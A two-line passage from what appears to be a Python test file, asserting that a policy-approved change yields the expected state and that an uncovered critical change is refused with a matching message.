    assert world.told(first, by_policy(world, first)).state == first
    assert "no policy covers a critical change" in world.fold().refused[0]
